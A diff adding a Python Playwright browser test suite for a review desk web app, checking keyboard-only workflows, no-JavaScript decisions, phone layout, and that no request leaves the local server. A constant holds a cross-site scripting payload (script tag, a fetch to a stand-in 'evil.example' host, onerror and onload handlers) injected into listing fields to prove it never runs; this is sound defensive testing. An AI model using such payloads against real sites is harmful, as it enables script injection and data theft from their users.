@@ -1,0 +1,249 @@
+"""The morning's work in a real browser, by keyboard alone; hostile words that must not run; and that no request leaves."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from config.loader import Config
+from review import render
+from review.build import build as build_digest
+from storage.store import Store
+from tests import handover, hostile
+
+pytestmark = pytest.mark.browser
+
+CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+
+OFFERS = tuple(
+    {**handover.OFFERS[n % 2], "listing_id": str(10 + n), "seller_id": f"s{n}", "title": f"{handover.OFFERS[n % 2]['title']} lot {n}"} for n in range(7)
+)  # fmt: skip
+SCRIPT = "</title></textarea>'\"><script>window.PWN7=1;fetch('//evil.example/PWN7')</script><img src=//evil.example/PWN7 onerror=window.PWN7=1><svg onload=window.PWN7=1>"
+
+
+def hostile_offers() -> list[dict[str, Any]]:
+    """Offers that are judged, with words from every family of payloads around what they are judged by."""
+    words = [SCRIPT, *hostile.HTML[::16], *hostile.TEMPLATES[:3], *hostile.ENTITIES[:3]]
+    return [
+        {**handover.OFFERS[0], "listing_id": f"h{n}", "title": f"NVIDIA H100 80GB PCIe serial removed {word}", "description": f"{word} Serial numbers removed {SCRIPT} no invoice {word}",
+         "location": f"Shenzhen {SCRIPT}", "seller_id": SCRIPT + str(n), "condition": SCRIPT}
+        for n, word in enumerate(words)
+    ]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Any]:
+    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+    if CHROMIUM is None:
+        pytest.skip("there is no Chromium here: install the package chromium")
+    with playwright.sync_playwright() as driver:
+        browser = driver.chromium.launch(
+            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-background-networking"]
+        )
+        yield browser
+        browser.close()
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str, str]]:
+    """A home, the address of a desk that the command line serves on it, and Ana's link."""
+    if CHROMIUM is None:
+        pytest.skip("there is no Chromium here: install the package chromium")
+    home = handover.build(tmp_path_factory.mktemp("home") / "home", (*OFFERS, *hostile_offers()))
+    with socket.socket() as free:
+        free.bind(("127.0.0.1", 0))
+        port = free.getsockname()[1]
+    command = [
+        sys.executable,
+        "-m",
+        "chipwatch.cli",
+        "--home",
+        str(home),
+        "desk",
+        "--person",
+        "Ana",
+        "--port",
+        str(port),
+    ]
+    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
+    try:
+        assert process.stderr is not None
+        link = re.search(r"Ana: (http://\S+)", process.stderr.readline())
+        assert link is not None and process.stderr.readline().startswith("stop with")
+        yield home, f"http://127.0.0.1:{port}", link[1]
+    finally:
+        process.send_signal(signal.SIGINT)
+        assert process.wait(20) == 0
+
+
+@pytest.fixture
+def page(chromium: Any, served: tuple[Path, str, str]) -> Iterator[Any]:
+    """A page of a signed-in browser; whatever it asked for elsewhere, or complained of, fails the test."""
+    _, address, link = served
+    context = chromium.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
+    page = context.new_page()
+    page.set_default_timeout(15_000)
+    asked: list[str] = []
+    said: list[str] = []
+    context.on("request", lambda request: asked.append(request.url))
+    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
+    page.on("pageerror", lambda error: said.append(str(error)))
+    page.on("dialog", lambda dialog: (said.append(f"dialog {dialog.message}"), dialog.dismiss()))
+    sign_in(page, link)
+    yield page
+    assert [url for url in asked if not url.startswith((address, "file://", "data:"))] == []
+    assert [words for words in said if "inline style" not in words] == []
+    context.close()
+
+
+def sign_in(page: Any, link: str) -> None:
+    page.goto(link)
+    assert page.title().startswith("Queue") and "token" not in page.url
+
+
+def keys(page: Any, *pressed: str) -> None:
+    """Press keys; each that leads to another page is waited for."""
+    for key in pressed:
+        if key.startswith(">"):
+            with page.expect_navigation():
+                page.keyboard.press(key[1:])
+        else:
+            page.keyboard.press(key)
+
+
+def told(page: Any) -> str:
+    return str(page.locator(".notice").first.inner_text())
+
+
+def test_the_mornings_work_from_the_digests_link_by_keyboard_alone(
+    page: Any, served: tuple[Path, str, str], tmp_path: Path
+) -> None:
+    home, address, _ = served
+    with Store.open(home, readonly=True) as store:
+        made = build_digest(store, Config(home), now="2026-03-04T08:00:00Z", since=None)
+        first = store.alerts(limit=1)[0]["listing"]
+    digest = tmp_path / "digest.html"
+    digest.write_text(render.html(made).replace("http://127.0.0.1:8100", address), encoding="utf-8")
+
+    page.goto(digest.as_uri())
+    link = f'a[href="{address}/alert/{first}"]'
+    assert page.locator(link).count() == 1
+    for _ in range(200):
+        page.keyboard.press("Tab")
+        if page.evaluate(f"document.activeElement.matches({json.dumps(link)})"):
+            break
+    keys(page, ">Enter")
+    assert page.url.startswith(f"{address}/alert/{first}")
+
+    keys(page, ">c")
+    assert "confirmed" in told(page) and page.url.startswith(f"{address}/alert/") and first not in page.url
+    keys(page, "d", ">4")
+    assert "dismissed (papers-seen)" in told(page)
+    keys(page, ">s")
+    assert "snoozed until" in told(page)
+    keys(page, ">e")
+    assert "escalated" in told(page)
+    keys(page, ">c")
+    keys(page, ">u")
+    assert "taken back" in told(page)
+
+    keys(page, ">Escape")
+    page.wait_for_selector("[data-list]")
+    keys(page, "j", "j", "x", "j", "x", "d", ">1")
+    assert "2 alerts dismissed (misread)" in told(page)
+    with Store.open(home, readonly=True) as store:
+        made_by_ana = list(store.decisions())
+    actions = [row["action"] for row in made_by_ana]
+    assert actions == ["confirm", "dismiss", "snooze", "escalate", "confirm", "undo", "dismiss", "dismiss"]
+    assert {row["who"] for row in made_by_ana} == {"Ana"}
+
+    keys(page, "j", ">o", ">h")
+    assert "Hand-over pack" in page.locator("h1").inner_text()
+    with page.expect_download() as waiting:
+        page.keyboard.press("o")
+    pack = tmp_path / "pack.zip"
+    waiting.value.save_as(pack)
+    with zipfile.ZipFile(pack) as archive:
+        (manifest,) = [archive.read(name) for name in archive.namelist() if name.endswith("MANIFEST.sha256")]
+    assert hashlib.sha256(manifest).hexdigest() in page.content()
+
+
+def test_keys_leave_fields_alone_and_help_is_there(page: Any) -> None:
+    keys(page, "/")
+    page.keyboard.type("jdcu")
+    assert page.locator("#find").input_value() == "jdcu" and page.locator("dialog[open]").count() == 0
+    keys(page, "Escape", "?")
+    assert page.locator("dialog#keys").is_visible()
+    keys(page, "Escape")
+    keys(page, "d")
+    assert page.locator("dialog[open]").count() == 0  # no row is chosen: there is nothing to dismiss
+    keys(page, "j", "d")
+    assert page.locator("dialog.why").is_visible()
+    keys(page, "Escape")
+    assert page.locator("[data-item] input:checked").count() == 0
+    keys(page, "g", ">d")
+    assert page.url.endswith("/chipwatch")
+
+
+def test_hostile_words_do_not_run_anywhere(page: Any, served: tuple[Path, str, str]) -> None:
+    home, address, _ = served
+    with Store.open(home, readonly=True) as store:
+        listings = [row["listing"] for row in store.alerts(limit=500) if "PWN7" in row["title"]]
+        evidence = store.history(listings[0])[0].evidence
+    assert len(listings) > 15 and evidence is not None
+    paths = ["/", "/?state=any", *(f"/alert/{key}" for key in listings[:10]), "/search?q=H100", f"/search?q={SCRIPT.replace('#', '')}", f"/?chip={SCRIPT}", f"/evidence/{evidence.id}",
+             "/record", "/chipwatch/alert", "/chipwatch/observation", f"/chipwatch/listing/{listings[0]}", "/market", "/sellers", "/sites", "/tuning"]  # fmt: skip
+    for path in paths:
+        page.goto(address + path)
+        assert page.evaluate("window.PWN7") is None, path
+        assert page.locator("img").count() == 0, path
+
+
+def test_without_javascript_everything_can_be_decided(chromium: Any, served: tuple[Path, str, str]) -> None:
+    home, address, _ = served
+    context = chromium.new_context(java_script_enabled=False)
+    page = context.new_page()
+    from review.desk.people import People
+
+    page.goto(f"{address}/sign-in?token={People(home).invite('Ben', '2026-03-04T08:00:00Z')}")
+    page.locator("[data-item] h2 a").first.click()
+    title = page.locator("h1").inner_text()
+    page.locator("#reason_dismiss").select_option("known-seller")
+    page.get_by_role("button", name="Dismiss").click()
+    assert "dismissed (known-seller)" in told(page) and title[:20] in told(page)
+    page.get_by_role("button", name="Undo").first.click()
+    assert "taken back" in told(page)
+    page.goto(address)
+    for box in page.locator("[data-item] input").all()[:2]:
+        box.check()
+    page.get_by_role("button", name="Escalate").click()
+    assert "2 alerts escalated" in told(page)
+    context.close()
+
+
+def test_a_phone_shows_it_without_sideways_scrolling(chromium: Any, served: tuple[Path, str, str]) -> None:
+    home, address, _ = served
+    context = chromium.new_context(viewport={"width": 360, "height": 740})
+    page = context.new_page()
+    from review.desk.people import People
+
+    page.goto(f"{address}/sign-in?token={People(home).invite('Cleo', '2026-03-04T08:00:00Z')}")
+    with Store.open(home, readonly=True) as store:
+        key = store.alerts(limit=1)[0]["listing"]
+    for path in ("/", f"/alert/{key}", "/search?q=H100", "/record", "/mutes"):
+        page.goto(address + path)
+        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+        assert wide <= 0, (path, wide)
+    context.close()
